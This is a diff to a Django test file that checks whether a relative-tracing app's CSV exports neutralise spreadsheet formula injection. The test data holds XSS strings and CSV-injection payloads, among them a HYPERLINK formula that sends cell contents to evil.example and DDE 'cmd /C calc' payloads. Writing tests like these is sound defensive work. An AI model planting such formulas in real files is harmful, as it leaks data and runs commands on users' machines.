@@ -1,16 +1,21 @@
 """What enemies send: each is refused, or shown as the text that it is."""
 
+import csv
+import io
 import re
 
+import openpyxl
 import pytest
 from django.test import Client
 from django.utils.html import escape
 from lists.conftest import PARTS, write_xlsx, xml_cell
+from office.tracing.invented import proposed
 
+from kintrace.lists import safe_cell
 from kintrace.office import files
 from kintrace.office.home import home
-from kintrace.office.tracing import record_actions
-from kintrace.office.tracing.models import PeopleList, Record
+from kintrace.office.tracing import pair_actions, record_actions
+from kintrace.office.tracing.models import PeopleList, Record, RejectedCell
 
 SCRIPT = "<script>alert('a')</script>"
 IMAGE = '"><img src=x onerror=alert(1)>'
@@ -179,3 +184,77 @@ def test_no_page_of_ours_runs_scripts_of_its_own(member, imported, client_of):
     record = Record.objects.first()
     text = seen(client_of, by, "/lists/", f"/lists/{one.id}/", "/records/new/", f"/records/{record.id}/")
     assert re.findall(r"<script(?![^>]*src=)|\son\w+=|style=", text) == []
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1;"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "＠SUM(1)",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "шрам; =1+1",
+]
+RUNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def cells(answer, delimiter=","):
+    text = b"".join(answer.streaming_content).decode("utf-8-sig")
+    read = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+    return [cell for row in read for cell in row]
+
+
+def runs(cell):
+    """Whether a spreadsheet would take a cell for a formula; the office's own numbers are numbers."""
+    begun = cell.lstrip(" \u00a0\u3000\ufeff\u200b")
+    return begun.startswith(RUNS) and not re.fullmatch(r"-\d+(\.\d+)?", cell)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_decisions_taken_out_runs(member, client_of, formula):
+    by = member(name=formula)
+    pair = proposed(by, name=formula, number=formula)
+    PeopleList.objects.update(name=formula)
+    word = pair_actions.Word("same", "details_agree", formula, None)
+    pair_actions.decide(by=by, number=pair.id, word=word)
+    for delimiter in (",", ";", "\t"):
+        found = cells(client_of(by).get("/pairs/decided.csv"), delimiter)
+        assert [cell for cell in found if runs(cell)] == []
+    found = cells(client_of(by).get("/pairs/decided.csv"))
+    assert found.count(safe_cell(formula)) >= 7  # names of list, record and member, numbers
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_what_could_not_be_read_runs_be_it_the_file_name(member, imported, client_of, formula):
+    by = member()
+    written = formula.replace('"', '""')
+    raw = f'№,ПІБ,"{written} народження"\n1,Коваль Іван,"{written}"\n2,Бондар Яна,01.02.2014\n'
+    columns = {"id": ["№"], "name": ["ПІБ"]}
+    one = imported(by, raw, columns=columns, file_name=f"{formula}.csv", name=formula)
+    RejectedCell.objects.create(list=one, row=1, column=formula, value=formula, why="not a date")
+    answer = client_of(by).get(f"/lists/{one.id}/rejected.csv")
+    assert answer["Content-Disposition"] == f'attachment; filename="rejected-{one.id}.csv"'
+    found = cells(answer)
+    assert [cell for cell in found if runs(cell)] == []
+    assert found.count(safe_cell(formula)) == 2
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_whatever_reads_a_sheet_back_and_saves_it_finds_text(member, client_of, formula, tmp_path):
+    """What openpyxl makes of a cell is what a spreadsheet would: "f" is a formula, "s" text."""
+    by = member(name=formula)
+    pair = proposed(by)
+    pair_actions.decide(by=by, number=pair.id, word=pair_actions.Word("same", "photo", "", None))
+    book = openpyxl.Workbook()
+    for place, cell in enumerate(cells(client_of(by).get("/pairs/decided.csv")), 1):
+        book.active.cell(row=1, column=place, value=cell)
+    book.save(tmp_path / "back.xlsx")
+    row = openpyxl.load_workbook(tmp_path / "back.xlsx").active[1]
+    assert {cell.data_type for cell in row} <= {"s", "inlineStr", "n"}
+    assert [cell.value for cell in row if cell.data_type == "n" and cell.value is not None] == []
